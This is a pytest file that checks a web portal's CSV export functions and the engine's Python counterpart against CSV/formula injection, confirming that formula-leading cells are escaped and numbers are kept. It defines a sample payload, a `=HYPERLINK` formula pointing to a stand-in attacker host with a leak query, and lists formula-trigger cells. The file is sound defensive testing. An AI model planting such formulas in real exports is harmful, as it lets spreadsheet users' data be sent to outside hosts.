"""What the portal's CSV downloads hold, run in Node on its own module: a cell that a spreadsheet would read as a
formula (OWASP's CSV injection: ``=``, ``+``, ``-``, ``@``, a tab or a carriage return first) is text, with a
leading ``'``; numbers, negative ones included, stay numbers. Every table, plot and report download of the
portal goes through ``csvText``."""

from __future__ import annotations

import json
import shutil
import subprocess
from typing import Any

import pytest

from helpers import REPO

DOM = REPO / "src" / "twinengine" / "ui" / "static" / "js" / "dom.js"
SCRIPT = """
const [file, calls] = [process.argv[1], JSON.parse(process.argv[2])];
import(require("url").pathToFileURL(file).href).then((module) => {
  console.log(JSON.stringify(calls.map(([name, args]) => module[name](...args))));
});
"""
LEAK = '=HYPERLINK("http://evil.example/?leak","Click me")'


def run(*calls: tuple[str, list[Any]]) -> list[Any]:
    node = shutil.which("node")
    if node is None:
        pytest.skip("Node.js is not installed (apt-get install nodejs): the portal's modules cannot run here")
    done = subprocess.run([node, "-e", SCRIPT, str(DOM), json.dumps(calls)], capture_output=True, text=True,
                          timeout=60, check=True)
    return list(json.loads(done.stdout))


def test_a_formula_in_a_state_value_is_text_in_the_csv() -> None:
    [text] = run(("csvText", [["property", "before", "after"], [["note", "calm", LEAK]]]))
    assert text == 'property,before,after\r\nnote,calm,"\'=HYPERLINK(""http://evil.example/?leak"",""Click me"")"\r\n'


def test_every_character_that_starts_a_formula_is_neutralised() -> None:
    cells = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "-", "+", "=", "@", "-Infinity", "-x", "--1",
             "-1,2345", "- 1"]
    assert run(*[("csvCell", [c]) for c in cells]) == [f"'{c}" for c in cells]


def test_numbers_and_plain_text_stay_as_they_are() -> None:
    cells: list[Any] = [-1.5, 0, 3, -0.25, 1e-7, "-1.5", "+2", "-1,234", "-12,345.5", "-.5", "-1e5", "+2E-3", "1.5",
                        "reach-1", "2026-03-01T00:00:00Z", "a=b", " =1", "", None, True, "\u2013"]
    expected = ["-1.5", "0", "3", "-0.25", "1e-7", "-1.5", "+2", "-1,234", "-12,345.5", "-.5", "-1e5", "+2E-3", "1.5",
                "reach-1", "2026-03-01T00:00:00Z", "a=b", " =1", "", "", "true", "\u2013"]
    assert run(*[("csvCell", [c]) for c in cells]) == expected
    [text] = run(("csvText", [["x", "level (m)"], [[1, -1.5], [2, "-0.5"], [3, None]]]))
    assert text == "x,level (m)\r\n1,-1.5\r\n2,-0.5\r\n3,\r\n"


def test_column_titles_are_neutralised_too() -> None:
    [text] = run(("csvText", [["time", "@level"], [["t", 1]]]))
    assert text == "time,'@level\r\nt,1\r\n"


def test_the_engine_and_the_portal_neutralise_the_same_cells() -> None:
    """``twinengine.csv_cells`` (CSV the engine writes: the CLI's usage records) and the portal agree cell by
    cell, and Python's csv module writes the result as the portal does."""
    import csv
    import io

    from twinengine.csv_cells import safe_cell, safe_row

    cells: list[Any] = [LEAK, "=1", "+1+1", "-1+1", "@x", "\tx", "\rx", "-", "-1.5", "+2", "-1,234", "-.5", "-1e5",
                        "-1,2345", "reach-1", "a=b", " =1", -1.5, 0, 3]
    portal = run(*[("csvCell", [c]) for c in cells])
    assert [str(safe_cell(c)) for c in cells] == portal
    assert safe_cell(float("-inf")) == "'-inf" and safe_cell(None) is None and safe_cell(True) is True
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=["identity", "note", "cores"], lineterminator="\r\n")
    writer.writeheader()
    writer.writerow(safe_row({"identity": "uma", "note": LEAK, "cores": -2}))
    assert buffer.getvalue() == f"identity,note,cores\r\n{run(('csvText', [['uma', LEAK, -2], []]))[0][:-2]}\r\n"
